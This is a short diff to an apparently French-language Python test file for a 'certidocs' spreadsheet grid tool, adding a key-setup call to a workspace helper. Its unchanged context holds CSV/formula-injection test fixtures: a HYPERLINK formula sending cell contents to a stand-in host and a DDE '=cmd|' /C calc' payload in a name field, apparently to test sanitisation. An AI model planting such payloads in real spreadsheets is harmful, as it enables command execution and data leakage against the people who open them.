@@ -23,6 +23,7 @@ from certidocs.cli import main
 from certidocs.grid import layout as L
 from certidocs.grid.writer import GridWriter, grid_filename
 from certidocs.session import open_session
+from certidocs.signature import ensure_keys
 from certidocs.workspace import find_workspace
 
 HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
@@ -39,6 +40,7 @@ HOSTILE_2 = {"Nom de naissance": "=cmd|' /C calc'!A0", "Prénom": "@Moussa"}
 def _workspace(root: Path, toml: str = "") -> Path:
     (root / "certidocs.toml").write_text('[grilles]\nmot_de_passe = ""\n' + toml,
                                          encoding="utf-8")
+    ensure_keys(root)
     return root
 
 
